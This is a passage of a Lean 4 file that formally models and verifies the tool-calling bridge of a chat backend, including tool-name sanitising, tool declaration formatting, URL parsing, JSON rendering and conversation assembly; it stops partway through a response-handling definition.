import Mathlib

/-! # Verification of the chatwithoats tool-calling bridge

A shallow embedding, in Lean 4, of the tool-calling bridge of the
`chatwithoats` backend (`backend/openai_helper.py`), together with proofs
and refutations of the specified properties.

Conventions used throughout:
* Python JSON values are modelled by the inductive type `Json` below
  (numbers restricted to integers; no float appears in the code under study).
* Python `None`-able strings are `Option String`; Python truthiness of a
  string is "≠ empty string" on the `some` case.
* Python dicts are insertion-ordered association lists with unique keys;
  `mapSet` mirrors `d[k] = v` (update in place keeps the position of an
  existing key, as in CPython ≥ 3.7) and `lookupPairs` mirrors `d.get(k)`.
* I/O boundaries (the HTTP transport, `uuid.uuid4`, the audio temp-file
  write, `json.loads`) are passed in as explicit parameters, so every
  definition stays executable and the surrounding control flow is the
  code's own.
-/

namespace ChatWithOats

/-- JSON values as stored in the database JSON columns and exchanged with
the provider.  Numbers are integers: no fractional literal occurs in the
code paths modelled here. -/
inductive Json where
  | null : Json
  | bool (b : Bool) : Json
  | num (n : Int) : Json
  | str (s : String) : Json
  | arr (elems : List Json) : Json
  | obj (fields : List (String × Json)) : Json

/-- Python truthiness of a JSON value (`if x:`). -/
def Json.truthy : Json → Bool
  | .null => false
  | .bool b => b
  | .num n => n != 0
  | .str s => s != ""
  | .arr xs => !xs.isEmpty
  | .obj fs => !fs.isEmpty

/-- Model of `d.get(k)` on an association list (first match wins; a Python dict
holds each key once, so this is exact). -/
def lookupPairs {α : Type} : List (String × α) → String → Option α
  | [], _ => none
  | (k', v) :: rest, k => if k' = k then some v else lookupPairs rest k

/-- Model of `d[k] = v`: update in place if the key exists (keeping its position,
as CPython dicts do), else append at the end. -/
def mapSet {α : Type} : List (String × α) → String → α → List (String × α)
  | [], k, v => [(k, v)]
  | (k', v') :: rest, k, v =>
      if k' = k then (k, v) :: rest else (k', v') :: mapSet rest k v

/-- Model of `a.update(b)` for dicts: fold `mapSet` over the updating dict. -/
def dictUpdate {α : Type} (base upd : List (String × α)) : List (String × α) :=
  upd.foldl (fun acc p => mapSet acc p.1 p.2) base

/-- Name of the Python type of a JSON value, as it appears in CPython
error messages. -/
def pyTypeName : Json → String
  | .null => "NoneType"
  | .bool _ => "bool"
  | .num _ => "int"
  | .str _ => "str"
  | .arr _ => "list"
  | .obj _ => "dict"

/-- Python truthiness of an optional string (`None` and `""` are falsy). -/
def optStrTruthy : Option String → Bool
  | none => false
  | some s => s != ""

/-- Rendering of an optional string inside an f-string: `None` prints as
`"None"`. -/
def pyShowOpt : Option String → String
  | none => "None"
  | some s => s

/-- A nullable string column value as a JSON value (`None` ↦ `null`). -/
def optStrToJson : Option String → Json
  | none => .null
  | some s => .str s

/-!
String primitives, re-implemented by structural recursion over the
character lists so that every definition in this file evaluates by plain
kernel reduction (the corresponding core `String` functions recurse over
byte positions by well-founded recursion, which does not).
-/

/-- Python `needle in hay` on character lists. -/
def listContainsSub : List Char → List Char → Bool
  | hay, needle =>
    match hay with
    | [] => needle.isEmpty
    | _ :: rest => needle.isPrefixOf hay || listContainsSub rest needle

/-- Substring containment, Python's `needle in hay` for strings. -/
def strContainsSub (hay needle : String) : Bool :=
  listContainsSub hay.data needle.data

/-- Model of `str.lower()` (the inputs are ASCII). -/
def pyToLower (s : String) : String := String.mk (s.data.map Char.toLower)

/-- Model of `str.upper()` (the inputs are ASCII). -/
def pyToUpper (s : String) : String := String.mk (s.data.map Char.toUpper)

/-- Model of `s.startswith(pre)`. -/
def pyStartsWith (s pre : String) : Bool := pre.data.isPrefixOf s.data

/-- Model of `s.endswith(suf)`. -/
def pyEndsWith (s suf : String) : Bool := suf.data.isSuffixOf s.data

/-- Model of `s[:n]`. -/
def strTake (s : String) (n : Nat) : String := String.mk (s.data.take n)

/-- Model of `s[:-n]`. -/
def strDropRight (s : String) (n : Nat) : String :=
  String.mk (s.data.take (s.data.length - n))

/-- Model of `sep.join` on character lists. -/
def joinWith (sep : List Char) : List (List Char) → List Char
  | [] => []
  | [x] => x
  | x :: y :: rest => x ++ sep ++ joinWith sep (y :: rest)

/-- Model of `sep.join(xs)`. -/
def strJoin (sep : String) (xs : List String) : String :=
  String.mk (joinWith sep.data (xs.map String.data))

/-- Splitting on a non-empty separator; the fuel starts at the length of
the input, which bounds the number of steps. -/
def splitLoop (sep : List Char) : Nat → List Char → List Char → List (List Char)
  | 0, _, acc => [acc.reverse]
  | _ + 1, [], acc => [acc.reverse]
  | fuel + 1, c :: rest, acc =>
    if sep.isPrefixOf (c :: rest) then
      acc.reverse :: splitLoop sep fuel ((c :: rest).drop sep.length) []
    else splitLoop sep fuel rest (c :: acc)

/-- Model of `s.split(sep)` for a non-empty separator (every separator in the code
under study is non-empty). -/
def pySplit (s sep : String) : List String :=
  if sep = "" then [s]
  else (splitLoop sep.data s.data.length s.data []).map String.mk

/-- Python `s.strip(c)` for a single strip character. -/
def pyStripChar (c : Char) (s : String) : String :=
  String.mk (((s.data.dropWhile (· = c)).reverse.dropWhile (· = c)).reverse)

/-- Python `s.strip()` (whitespace on both ends). -/
def pyStripWs (s : String) : String :=
  String.mk (((s.data.dropWhile Char.isWhitespace).reverse.dropWhile
    Char.isWhitespace).reverse)

/-- Model of `re.sub(r'_+', '_', s)`: collapse every run of underscores to one. -/
def collapseUnderscores (s : String) : String :=
  String.mk (s.data.foldr
    (fun c acc => if c = '_' ∧ acc.headD ' ' = '_' then acc else c :: acc) [])

/-! ## `urllib.parse.urlparse`, restricted to the three components the code
reads: `scheme`, `netloc` and `path`.  The URLs handled by the backend are
plain absolute or relative HTTP URLs; queries and fragments are split off,
and the authority extends from `://` to the next `/`, `?` or `#`.
-/

/-- Split an authority-plus-path suffix at the end of the authority. -/
def splitAuthority (s : String) : String × String :=
  let isEnd : Char → Bool := fun c => c = '/' ∨ c = '?' ∨ c = '#'
  (String.mk (s.data.takeWhile (fun c => !isEnd c)),
   String.mk (s.data.dropWhile (fun c => !isEnd c)))

/-- Drop a query string and fragment from a path suffix. -/
def stripQueryFrag (s : String) : String :=
  String.mk (s.data.takeWhile (fun c => !(c = '?' ∨ c = '#')))

/-- Model of `urlparse(url).scheme` (lower-cased, empty when there is no `://`). -/
def urlparseScheme (url : String) : String :=
  match pySplit url "://" with
  | [] => ""
  | [_] => ""
  | scheme :: _ => pyToLower scheme

/-- Model of `urlparse(url).netloc`. -/
def urlparseNetloc (url : String) : String :=
  match pySplit url "://" with
  | [] => ""
  | [_] => ""
  | _ :: rest => (splitAuthority (strJoin "://" rest)).1

/-- Model of `urlparse(url).path`. -/
def urlparsePath (url : String) : String :=
  match pySplit url "://" with
  | [] => ""
  | [p] => stripQueryFrag p
  | _ :: rest => stripQueryFrag (splitAuthority (strJoin "://" rest)).2

/-! ## `_sanitize_tool_name` (openai_helper.py lines 571–600)
-/

/-- The provider's legal character set `[A-Za-z0-9_-]`. -/
def isLegalChar (c : Char) : Bool :=
  c.isAlphanum ∨ c = '_' ∨ c = '-'

/-- The provider's legal-name predicate `^[A-Za-z0-9_-]{1,64}$`. -/
def isLegalName (s : String) : Bool :=
  decide (1 ≤ s.data.length) && decide (s.data.length ≤ 64) &&
    s.data.all isLegalChar

/-- The guard of line 589: `sanitized and not (sanitized[0].isalpha() or
sanitized[0] == '_')`.  The `isalpha` test is applied to a character that
has already been forced into the ASCII set `[A-Za-z0-9_-]`, where
Python's Unicode `isalpha` and `Char.isAlpha` agree. -/
def needsFPrefix : List Char → Bool
  | [] => false
  | c :: _ => !(c.isAlpha || c == '_')

/-- "starts with a letter or underscore" (false for the empty string,
which has no first character). -/
def startsWithAlphaOrUnderscore : List Char → Bool
  | [] => false
  | c :: _ => c.isAlpha || c == '_'

/-- Model of `_sanitize_tool_name`. -/
def sanitize_tool_name (name : String) : String :=
  if name = "" then "unnamed_tool"
  else
    let cs := name.data.map (fun c => if isLegalChar c then c else '_')
    let cs2 := if needsFPrefix cs then 'f' :: '_' :: cs else cs
    let cs3 := if cs2.length > 64 then cs2.take 64 else cs2
    if cs3.isEmpty then "unnamed_tool" else String.mk cs3

/-- The sanitizer exactly as §4.2 of the specification words it: replace
every character outside the legal set with `_`; if the result does not
start with a letter or `_` (read as speaking of a first character, hence
not firing on the empty string — the reading under which the spec's final
fallback clause is reachable), prefix `f_`; truncate to 64; substitute
the fixed fallback token if empty. -/
def sanitizeSpecPipeline (name : String) : String :=
  let replaced := name.data.map (fun c => if isLegalChar c then c else '_')
  let prefixed :=
    if startsWithAlphaOrUnderscore replaced || replaced.isEmpty then replaced
    else 'f' :: '_' :: replaced
  let truncated := prefixed.take 64
  if truncated.isEmpty then "unnamed_tool" else String.mk truncated

/-! ## `_register_tool_name_mapping` / `_get_tool_id_by_name`
(openai_helper.py lines 1273–1318)
-/

/-- The provider-name ↦ tool-id registry `self._tool_name_to_id_map`,
a Python dict. -/
abbrev NameMap : Type := List (String × String)

/-- Model of `_register_tool_name_mapping`: plain dict assignment. -/
def register_tool_name_mapping (m : NameMap) (toolName toolId : String) :
    NameMap :=
  mapSet m toolName toolId

/-- Last element of a list of strings — Python's `parts[-1]` on the
(always non-empty) result of `str.split`. -/
def lastPart (parts : List String) : String :=
  parts.reverse.headD ""

/-- Model of `_get_tool_id_by_name`: direct dict lookup first; otherwise the legacy
heuristic that treats the last `_`-separated token of the provider name as
a potential tool-id prefix and scans the registered ids in insertion
order. -/
def get_tool_id_by_name (m : NameMap) (functionName : String) :
    Option String :=
  match lookupPairs m functionName with
  | some toolId => some toolId
  | none =>
      let parts := pySplit functionName "_"
      if parts.length > 1 then
        let potentialIdPfx := lastPart parts
        (m.map (·.2)).find? (fun toolId => pyStartsWith toolId potentialIdPfx)
      else none

/-! ## Data model (models.py), restricted to the fields the bridge reads

`ApiRequest.url` is not a declared column, so Python's `hasattr` checks on
it are false in production; `none` models both "attribute absent" and
"attribute None", which the code treats identically (every access is
guarded by `hasattr(...) and ...`).  `Tool.configuration` follows the
`ApiToolConfig` pydantic shape (models.py lines 234–242), which is how the
CRUD layer stores it: `headers`/`params` are JSON objects and
`server_url` a string when present.
-/

/-- The tool taxonomy (`ToolType` in models.py). -/
inductive ToolType where
  | function
  | webSearch
  | fileSearch
deriving DecidableEq, Repr

structure Api where
  server : Option String := none

structure ApiRequest where
  id : String := ""
  path : Option String := none
  method : Option String := none
  url : Option String := none
  description : Option String := none
  request_body_schema : Option Json := none
  api : Option Api := none

structure ToolConfig where
  server_url : Option String := none
  headers : List (String × Json) := []
  params : List (String × Json) := []
  body_schema : Option Json := none

structure Tool where
  id : String := ""
  name : Option String := none
  description : Option String := none
  tool_type : Option ToolType := none
  api_request_id : Option String := none
  api_request : Option ApiRequest := none
  function_schema : Option Json := none
  skip_params : List String := []
  configuration : Option ToolConfig := none

/-- Python `a or b` for an optional string against a string default
(`None` and `""` both fall through). -/
def strOr (a : Option String) (b : String) : String :=
  match a with
  | some s => if s ≠ "" then s else b
  | none => b

/-- Python `a or b` where `a` is a JSON value that may be absent. -/
def pyOrJson (a : Option Json) (b : Json) : Json :=
  match a with
  | some j => if j.truthy then j else b
  | none => b

/-! ## `format_tools_for_openai` (openai_helper.py lines 337–569)

Each per-tool branch is its own definition; an exception inside a branch
is modelled by `none`, because the per-tool `try/except` logs the error
and skips the tool.
-/

/-- The `WEB_SEARCH` branch (lines 354–363).  When `function_schema` is a
truthy value that is not a dict, Python's `in`/indexing either finds no
key (bare declaration) or raises (tool skipped): `in` raises `TypeError`
on numbers and booleans; on a string or list a hit leads to indexing by a
string key, which raises. -/
def webSearchObjDecl (fields : List (String × Json)) : Json :=
  let base : List (String × Json) := [("type", .str "web_search_preview")]
  let b1 := match lookupPairs fields "user_location" with
    | some v => base ++ [("user_location", v)]
    | none => base
  let b2 := match lookupPairs fields "search_context_size" with
    | some v => b1 ++ [("search_context_size", v)]
    | none => b1
  .obj b2

/-- The truthy-schema case of the WebSearch branch, by schema shape. -/
def webSearchTruthyDecl : Json → Option Json
  | .obj fields => some (webSearchObjDecl fields)
  | .str s =>
      if strContainsSub s "user_location" ∨ strContainsSub s "search_context_size"
      then none
      else some (.obj [("type", .str "web_search_preview")])
  | .arr xs =>
      if xs.any (fun x => match x with
          | .str s => s = "user_location" ∨ s = "search_context_size"
          | _ => false)
      then none
      else some (.obj [("type", .str "web_search_preview")])
  | _ => none

def webSearchDecl : Option Json → Option Json
  | none => some (.obj [("type", .str "web_search_preview")])
  | some j =>
      if ¬ j.truthy then some (.obj [("type", .str "web_search_preview")])
      else webSearchTruthyDecl j

/-- The generic top-level-domain suffixes stripped from a server name
(line 400). -/
def commonSuffixes : List String :=
  ["_com", "_org", "_net", "_io", "_ai", "_co_uk", "_gov", "_info", "_biz"]

/-- Strip at most one of the common suffixes (the loop breaks after the
first hit). -/
def stripOneSuffix (s : String) : String :=
  match commonSuffixes.find? (fun suf => pyEndsWith s suf) with
  | some suf => strDropRight s suf.length
  | none => s

/-- Server-name component: netloc with dots replaced by underscores and
one common TLD suffix removed (lines 393–406). -/
def serverNameOfUrl (urlStr : String) : String :=
  let netloc := urlparseNetloc urlStr
  if netloc ≠ "" then
    stripOneSuffix (String.mk (netloc.data.map (fun c => if c = '.' then '_' else c)))
  else "unknown_server"

/-- Model of `re.match(r'^v[0-9]+(?:[a-zA-Z0-9._-]*)$', seg)` (line 435). -/
def isVersionSeg (s : String) : Bool :=
  match s.data with
  | 'v' :: rest =>
      !(rest.takeWhile Char.isDigit).isEmpty &&
        (rest.dropWhile Char.isDigit).all
          (fun c => c.isAlphanum ∨ c = '.' ∨ c = '_' ∨ c = '-')
  | _ => false

/-- Which URL to parse for the server-name component (lines 384–391):
the linked API's `server` first, the request's own `url` second. -/
def urlToParseForServer (apiReq : ApiRequest) : Option String :=
  let fallback : Option String := match apiReq.url with
    | some u => if u ≠ "" then some u else none
    | none => none
  match apiReq.api with
  | some api =>
      match api.server with
      | some srv => if srv ≠ "" then some srv else fallback
      | none => fallback
  | none => fallback

/-- The shared guard `p and p.strip() and p.strip() != '/'`. -/
def pathCandidate (p : String) : Option String :=
  if p ≠ "" ∧ pyStripWs p ≠ "" ∧ pyStripWs p ≠ "/" then some p else none

/-- Which path to parse for the version/endpoint components
(lines 408–429): the request's `path`, then the path of the request's
`url`, then the path of the server URL. -/
def pathToParseForEndpoint (apiReq : ApiRequest) : Option String :=
  let p1 := match apiReq.path with
    | some p => pathCandidate p
    | none => none
  match p1 with
  | some p => some p
  | none =>
    let p2 := match apiReq.url with
      | some u => if u ≠ "" then pathCandidate (urlparsePath u) else none
      | none => none
    match p2 with
    | some p => some p
    | none =>
      match urlToParseForServer apiReq with
      | some u => pathCandidate (urlparsePath u)
      | none => none

/-- Version and endpoint components from the chosen path (lines 431–451). -/
def versionAndEndpoint (pathToParse : Option String) : String × String :=
  match pathToParse with
  | none => ("", "general_action")
  | some p =>
    let stripped := pyStripChar '/' p
    let segs := pySplit stripped "/"
    if segs.headD "" ≠ "" then
      let versionStr := if isVersionSeg (segs.headD "") then segs.headD "" else ""
      let endpointSegs := if isVersionSeg (segs.headD "") then segs.tail else segs
      let currentEndpoint := strJoin "_" (endpointSegs.filter (· ≠ ""))
      if currentEndpoint ≠ "" then (versionStr, currentEndpoint)
      else if versionStr ≠ "" then (versionStr, "base_version_endpoint")
      else (versionStr, "unknown_endpoint")
    else if stripped = "" then ("", "root_api")
    else ("", "unknown_endpoint")

/-- Synthesised provider name for an endpoint-linked tool
(lines 377–472), sanitised. -/
def apiToolName (tool : Tool) (apiReq : ApiRequest) : String :=
  let methodStr := match apiReq.method with
    | some mtd => if mtd ≠ "" then pyToLower mtd else "post"
    | none => "post"
  let serverNameStr := match urlToParseForServer apiReq with
    | some u => serverNameOfUrl u
    | none => "unknown_server"
  let ve := versionAndEndpoint (pathToParseForEndpoint apiReq)
  let versionStr := ve.1
  let endpointStr := ve.2
  let nameParts :=
    (if serverNameStr ≠ "unknown_server" then [serverNameStr] else []) ++
    (if versionStr ≠ "" then [versionStr] else []) ++
    (if endpointStr ≠ "unknown_endpoint" then [endpointStr] else []) ++
    [methodStr]
  let formattedName :=
    if nameParts.isEmpty ∨ (nameParts.length = 1 ∧ nameParts.headD "" = methodStr ∧
        serverNameStr = "unknown_server" ∧ endpointStr = "unknown_endpoint" ∧
        versionStr = "")
    then "generic_api_tool_" ++ strTake tool.id 4
    else strJoin "_" nameParts
  let collapsed := pyStripChar '_' (collapseUnderscores formattedName)
  let finalName :=
    if collapsed = "" then "fallback_tool_name_" ++ strTake tool.id 4 else collapsed
  sanitize_tool_name finalName

/-- Model of `_build_parameters_from_api_request` (lines 602–629). -/
def build_parameters_from_api_request (apiReq : ApiRequest) : Json :=
  match apiReq.request_body_schema with
  | some (.obj s) =>
      .obj [("type", .str "object"),
            ("properties", (lookupPairs s "properties").getD (.obj [])),
            ("required", (lookupPairs s "required").getD (.arr []))]
  | _ =>
      .obj [("type", .str "object"), ("properties", .obj []),
            ("required", .arr [])]

/-- The `skip_params` filter (lines 493–514).  `none` models a raised
exception (the tool is then skipped by the per-tool handler): `.items()`
on a non-dict `properties` value raises, iterating a `null`/number/boolean
`required` value raises, and `in`/indexing on a non-dict parameters value
behaves as in `webSearchDecl`.  Iterating a string yields its characters
and iterating a dict yields its keys. -/
def applySkipParams (parameters : Json) (skips : List String) : Option Json :=
  let emptyResult : Json :=
    .obj [("type", .str "object"), ("properties", .obj []), ("required", .arr [])]
  match parameters with
  | .obj cur =>
    let fpE : Option (List (String × Json)) :=
      match lookupPairs cur "properties" with
      | none => some []
      | some (.obj props) => some (props.filter (fun p => !(skips.contains p.1)))
      | some _ => none
    let frE : Option (List Json) :=
      match lookupPairs cur "required" with
      | none => some []
      | some (.arr req) => some (req.filter (fun r => match r with
          | .str s => !(skips.contains s)
          | _ => true))
      | some (.str s) => some (((s.data.map (fun c => String.mk [c])).filter
          (fun t => !(skips.contains t))).map (fun t => Json.str t))
      | some (.obj fs) => some (((fs.map (·.1)).filter
          (fun t => !(skips.contains t))).map (fun t => Json.str t))
      | some _ => none
    match fpE, frE with
    | some fp, some fr =>
        some (.obj [("type", .str "object"), ("properties", .obj fp),
                    ("required", .arr fr)])
    | _, _ => none
  | .str s =>
      if strContainsSub s "properties" ∨ strContainsSub s "required" then none
      else some emptyResult
  | .arr xs =>
      if xs.any (fun x => match x with
          | .str s => s = "properties" ∨ s = "required"
          | _ => false)
      then none else some emptyResult
  | _ => none

/-- Parameters of an endpoint-linked function declaration (lines
487–514): the stored schema's `parameters` (`.copy()` needs a dict or
list; scalars raise and skip the tool), else built from the request-body
schema; then the `skip_params` filter when `skip_params` is truthy. -/
def apiFunctionParams (tool : Tool) (apiReq : ApiRequest) : Option Json :=
  let base : Option Json := match tool.function_schema with
    | some (.obj fs) =>
      match lookupPairs fs "parameters" with
      | some (.obj o) => some (.obj o)
      | some (.arr a) => some (.arr a)
      | some _ => none
      | none => some (build_parameters_from_api_request apiReq)
    | _ => some (build_parameters_from_api_request apiReq)
  match base with
  | none => none
  | some ps =>
      if tool.skip_params.isEmpty then some ps
      else applySkipParams ps tool.skip_params

/-- Description of an endpoint-linked function declaration (line 484). -/
def apiFunctionDescription (tool : Tool) (apiReq : ApiRequest) : String :=
  strOr tool.description (strOr apiReq.description ("Call " ++ pyShowOpt apiReq.path))

/-- The full endpoint-linked function declaration (lines 480–520). -/
def apiFunctionDecl (tool : Tool) (apiReq : ApiRequest) : Option Json :=
  (apiFunctionParams tool apiReq).map (fun ps =>
    .obj [("type", .str "function"),
          ("name", .str (apiToolName tool apiReq)),
          ("description", .str (apiFunctionDescription tool apiReq)),
          ("parameters", ps)])

/-- Provider name of a schema-only function tool (line 528–529). -/
def customToolName (tool : Tool) : String :=
  sanitize_tool_name ("custom_" ++ strOr tool.name "function" ++ "_" ++ strTake tool.id 8)

/-- Declaration of a schema-only function tool (lines 521–546); a
non-dict stored schema is replaced by `{}`. -/
def customFunctionDecl (tool : Tool) : Json :=
  let fsFields : List (String × Json) := match tool.function_schema with
    | some (.obj fs) => fs
    | _ => []
  let description : Json :=
    pyOrJson (lookupPairs fsFields "description")
      (.str (strOr tool.description "Call a function"))
  let parameters : Json := match lookupPairs fsFields "parameters" with
    | some p => p
    | none => .obj [("type", .str "object"), ("properties", .obj []),
                    ("required", .arr [])]
  .obj [("type", .str "function"),
        ("name", .str (customToolName tool)),
        ("description", description),
        ("parameters", parameters)]

/-- Provider name of a function tool with neither endpoint nor schema
(line 549–550). -/
def fallbackToolName (tool : Tool) : String :=
  sanitize_tool_name ("function_" ++ strTake tool.id 8)

/-- Declaration of a function tool with neither endpoint nor schema
(lines 547–561). -/
def fallbackFunctionDecl (tool : Tool) : Json :=
  .obj [("type", .str "function"),
        ("name", .str (fallbackToolName tool)),
        ("description", .str (strOr tool.description "Call a function")),
        ("parameters", .obj [("type", .str "object"), ("properties", .obj []),
                             ("required", .arr [])])]

/-- One iteration of the formatting loop: the emitted declaration (none
when the tool is skipped) and the updated name registry.  Registration
happens as soon as the name is synthesised, so a later exception still
leaves the mapping registered — exactly as in the source. -/
def format_tool_for_openai (tool : Tool) (m : NameMap) : Option Json × NameMap :=
  match tool.tool_type with
  | none => (none, m)
  | some .webSearch => (webSearchDecl tool.function_schema, m)
  | some .fileSearch => (some (.obj [("type", .str "file_search")]), m)
  | some .function =>
    if optStrTruthy tool.api_request_id then
      match tool.api_request with
      | none => (none, m)
      | some apiReq =>
          (apiFunctionDecl tool apiReq,
           register_tool_name_mapping m (apiToolName tool apiReq) tool.id)
    else if (tool.function_schema.map Json.truthy).getD false then
      (some (customFunctionDecl tool),
       register_tool_name_mapping m (customToolName tool) tool.id)
    else
      (some (fallbackFunctionDecl tool),
       register_tool_name_mapping m (fallbackToolName tool) tool.id)

/-- Model of `format_tools_for_openai`: the loop over the tool list, threading the
name registry. -/
def format_tools_for_openai : List Tool → NameMap → List Json × NameMap
  | [], m => ([], m)
  | t :: ts, m =>
    let step := format_tool_for_openai t m
    let rest := format_tools_for_openai ts step.2
    (match step.1 with
     | some j => j :: rest.1
     | none => rest.1,
     rest.2)

/-! ## `json.dumps` and Python `repr`

`dumpsCompact` is `json.dumps(x)` with the default separators `', '` and
`': '`; `dumpsIndent` is `json.dumps(x, indent=2)`, whose separators are
`','` plus newline and `': '`.  Characters beyond the Basic Multilingual
Plane would be escaped as surrogate pairs by CPython; that corner is not
modelled (no such character occurs in any evaluated input).
-/

/-- One hexadecimal digit, lower case. -/
def hexDigit (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (87 + n)

/-- Model of `json.dumps` escaping of one character (default `ensure_ascii`). -/
def jsonEscapeChar (c : Char) : List Char :=
  let bs := Char.ofNat 92
  let qt := Char.ofNat 34
  if c = qt then [bs, qt]
  else if c = bs then [bs, bs]
  else if c = Char.ofNat 10 then [bs, 'n']
  else if c = Char.ofNat 9 then [bs, 't']
  else if c = Char.ofNat 13 then [bs, 'r']
  else if c = Char.ofNat 8 then [bs, 'b']
  else if c = Char.ofNat 12 then [bs, 'f']
  else if c.toNat < 32 ∨ c.toNat > 126 then
    [bs, 'u', hexDigit ((c.toNat / 4096) % 16), hexDigit ((c.toNat / 256) % 16),
     hexDigit ((c.toNat / 16) % 16), hexDigit (c.toNat % 16)]
  else [c]

/-- A JSON string literal. -/
def jsonQuote (s : String) : String :=
  String.mk (Char.ofNat 34 :: (s.data.map jsonEscapeChar).flatten ++ [Char.ofNat 34])

mutual

/-- Model of `json.dumps(x)` with the default separators. -/
def dumpsCompact : Json → String
  | .null => "null"
  | .bool true => "true"
  | .bool false => "false"
  | .num n => toString n
  | .str s => jsonQuote s
  | .arr xs => "[" ++ strJoin ", " (dumpsCompactList xs) ++ "]"
  | .obj fs => "\x7b" ++ strJoin ", " (dumpsCompactFields fs) ++ "\x7d"

def dumpsCompactList : List Json → List String
  | [] => []
  | x :: xs => dumpsCompact x :: dumpsCompactList xs

def dumpsCompactFields : List (String × Json) → List String
  | [] => []
  | (k, v) :: fs => (jsonQuote k ++ ": " ++ dumpsCompact v) :: dumpsCompactFields fs

end

/-- A run of `n` spaces. -/
def spaces (n : Nat) : String := String.mk (List.replicate n ' ')

mutual

/-- Model of `json.dumps(x, indent=2)`, rendered at nesting level `lvl`. -/
def dumpsIndent (lvl : Nat) : Json → String
  | .null => "null"
  | .bool true => "true"
  | .bool false => "false"
  | .num n => toString n
  | .str s => jsonQuote s
  | .arr [] => "[]"
  | .arr (x :: xs) =>
      "[\n" ++ strJoin ",\n" (dumpsIndentList (lvl + 1) (x :: xs)) ++
        "\n" ++ spaces (2 * lvl) ++ "]"
  | .obj [] => "\x7b\x7d"
  | .obj (f :: fs) =>
      "\x7b\n" ++ strJoin ",\n" (dumpsIndentFields (lvl + 1) (f :: fs)) ++
        "\n" ++ spaces (2 * lvl) ++ "\x7d"

def dumpsIndentList (lvl : Nat) : List Json → List String
  | [] => []
  | x :: xs => (spaces (2 * lvl) ++ dumpsIndent lvl x) :: dumpsIndentList lvl xs

def dumpsIndentFields (lvl : Nat) : List (String × Json) → List String
  | [] => []
  | (k, v) :: fs =>
      (spaces (2 * lvl) ++ jsonQuote k ++ ": " ++ dumpsIndent lvl v) ::
        dumpsIndentFields lvl fs

end

/-- Python `repr` of a string; escaping is restricted to the quote and the
backslash (no claim evaluates this rendering — it only feeds a placeholder
log-style message). -/
def pyReprStr (s : String) : String :=
  let q := Char.ofNat 39
  let bs := Char.ofNat 92
  String.mk (q :: (s.data.map (fun c => if c = q ∨ c = bs then [bs, c] else [c])).flatten
    ++ [q])

mutual

/-- Python `str`/`repr` of a decoded JSON value, as interpolated by an
f-string (`str` and `repr` agree on containers). -/
def pyRepr : Json → String
  | .null => "None"
  | .bool true => "True"
  | .bool false => "False"
  | .num n => toString n
  | .str s => pyReprStr s
  | .arr xs => "[" ++ strJoin ", " (pyReprList xs) ++ "]"
  | .obj fs => "\x7b" ++ strJoin ", " (pyReprFields fs) ++ "\x7d"

def pyReprList : List Json → List String
  | [] => []
  | x :: xs => pyRepr x :: pyReprList xs

def pyReprFields : List (String × Json) → List String
  | [] => []
  | (k, v) :: fs => (pyReprStr k ++ ": " ++ pyRepr v) :: pyReprFields fs

end

/-! ## `_format_conversation` (openai_helper.py lines 226–300)

The DB query (most-recent-first fetch, limit, then reverse) belongs to the
excluded persistence collaborator; `history` below is the chronological
window it returns.  Messages are `Msg` values; the provider-facing
transcript entries are `Json` objects.
-/

/-- Message kinds (`MessageType` in models.py). -/
inductive MsgType where
  | text
  | voice
  | image
  | media
  | location
  | system
  | toolCall
  | toolResult
deriving DecidableEq, Repr

/-- A stored message, restricted to the columns the bridge reads.  The
three id/name columns hold strings or NULL and flow into JSON entries
unchanged, so they are kept as `Json` here. -/
structure Msg where
  id : String := ""
  chatid : String := ""
  sender : Option String := none
  sender_name : Option String := none
  type : MsgType := .text
  content : Option String := none
  role : Option String := none
  openai_tool_call_id : Json := .null
  tool_call_id : Json := .null
  tool_definition_name : Json := .null
  openai_function_name : Json := .null
  function_arguments : Option String := none
  function_result : Option String := none

/-- Role inference for a stored text entry (line 268):
`msg.role if msg.role else ("user" if msg.sender else "assistant")`. -/
def roleForTextMsg (msg : Msg) : String :=
  let inferred := if optStrTruthy msg.sender then "user" else "assistant"
  match msg.role with
  | some r => if r ≠ "" then r else inferred
  | none => inferred

/-- Rendering of one history message (lines 263–292); message types other
than TEXT / TOOL_CALL / TOOL_RESULT are silently skipped.  Note the
`msg.content or ""` coercion on the TEXT branch ("Make sure content is
never null", line 274). -/
def renderHistoryEntry (msg : Msg) : Option Json :=
  match msg.type with
  | .text =>
      some (.obj [("role", .str (roleForTextMsg msg)),
                  ("content", .str (msg.content.getD ""))])
  | .toolCall =>
      some (.obj [("type", .str "function_call"),
                  ("id", msg.openai_tool_call_id),
                  ("call_id", msg.tool_call_id),
                  ("name", msg.openai_function_name),
                  ("arguments", optStrToJson msg.function_arguments)])
  | .toolResult =>
      some (.obj [("type", .str "function_call_output"),
                  ("call_id", msg.tool_call_id),
                  ("output", optStrToJson msg.function_result)])
  | _ => none

/-- Model of `_format_conversation`: system prompt first, then the rendered
history without the message currently being answered, then the current
user message — whose `content` is taken verbatim (no `or ""` coercion on
line 297, unlike the history branch). -/
def format_conversation (systemPrompt : String) (history : List Msg)
    (current : Msg) : List Json :=
  Json.obj [("role", .str "system"), ("content", .str systemPrompt)] ::
    ((history.filter (fun msg => msg.id != current.id)).filterMap renderHistoryEntry
      ++ [Json.obj [("role", .str "user"), ("content", optStrToJson current.content)]])

/-! ## `_make_http_request` / `_process_response`
(openai_helper.py lines 818–948)

The transport is a parameter: `HttpOutcome.response` is the `httpx`
response that came back (status, `content-type` header, body text, and
the result of `response.json()` — `none` when decoding raises), and
`HttpOutcome.netError msg` is any exception raised while issuing the
request (connection failure, timeout, …) with `str(e) = msg`.
`raise_for_status` raises `HTTPStatusError` for every status outside
200–299 (`httpx.Response.is_success`).  The audio temp-file write is
represented by the fresh uuid `fileId` and a `writeOk` flag; a failed
write falls through to the JSON/text handling, as in the source.
-/

inductive HttpOutcome where
  | response (status : Nat) (contentTypeHeader : Option String) (text : String)
      (jsonBody : Option Json)
  | netError (msg : String)

/-- The audio content-type table (lines 891–901), in source order. -/
def audioTypeToExtension : List (String × String) :=
  [("audio/mpeg", ".mp3"), ("audio/mp3", ".mp3"), ("audio/opus", ".opus"),
   ("audio/aac", ".aac"), ("audio/flac", ".flac"), ("audio/wav", ".wav"),
   ("audio/wave", ".wav"), ("audio/ogg", ".ogg")]

/-- Model of `_process_response` (lines 877–948). -/
def process_response (contentTypeHeader : Option String) (respText : String)
    (respJson : Option Json) (url : String) (fileId : String)
    (writeOk : Bool) : String :=
  let contentType := pyToLower (contentTypeHeader.getD "")
  let fileExt : Option String :=
